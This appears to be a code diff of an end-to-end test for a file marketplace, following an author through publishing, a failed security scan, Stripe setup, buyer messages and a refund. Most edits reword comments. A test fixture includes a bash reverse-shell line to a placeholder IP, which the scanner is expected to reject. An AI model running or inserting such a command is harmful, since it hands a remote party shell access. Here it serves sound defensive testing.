@@ -8,7 +8,10 @@ import { arrive } from "./support/session.js";
 import { scenes, story, type Told } from "./support/story.js";
 import { openAccount, payBy } from "./support/stripe-page.js";
 
-/** An author publishes a folder, fails the scan, mends it, is paid at Stripe, answers a buyer, sells, and refunds. */
+/**
+ * An author publishes a folder, fails the scan, fixes it, connects Stripe, answers a buyer, sells, and
+ * refunds.
+ */
 
 const TITLE = "Quiet Ledger";
 const PRICE = 19;
@@ -18,7 +21,7 @@ const SAFE = {
 };
 const UNSAFE = { ...SAFE, "run.sh": "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n" };
 
-/** Where the author's folders lie. */
+/** The parent of the author's folders. */
 const machine = mkdtempSync(join(tmpdir(), "vaultmart-author-"));
 afterAll(() => rmSync(machine, { recursive: true }));
 
@@ -50,7 +53,7 @@ story("an author publishes, sells, answers and refunds", scenes("es"), async (to
 
 const press = (page: Page, name: string) => page.getByRole("button", { name, exact: true }).click();
 
-/** A folder whose script opens a shell to elsewhere is refused, with file and line; the mended one is published. */
+/** A folder with a reverse shell is rejected, with file and line. The fixed one is published. */
 async function publish({ page, say }: Told, slug: string): Promise<void> {
   const field = (key: string) => page.getByLabel(say(`publish.fields.${key}`)).first();
   await choose(page, say, UNSAFE);
@@ -83,7 +86,7 @@ async function choose(page: Page, say: Told["say"], files: Readonly<Record<strin
   await press(page, say("publish.goOn"));
 }
 
-/** A reader asks, and both write to each other in windows of their own. */
+/** A reader asks a question, and both users write to each other in separate windows. */
 async function talk({ page, say }: Told, theirs: Page): Promise<void> {
   const openMessage = async (window: Page) => {
     const unread = say("signals.messages_one", { count: 1 });
@@ -112,7 +115,7 @@ async function talk({ page, say }: Told, theirs: Page): Promise<void> {
   await hear(page, "Then I take it.");
 }
 
-/** The sale stands among the orders, and its money goes back. */
+/** The sale is in the list of orders, and is refunded. */
 async function refund({ page, say }: Told): Promise<void> {
   await page.goto("/sales");
   const order = page.getByRole("row").filter({ hasText: TITLE });
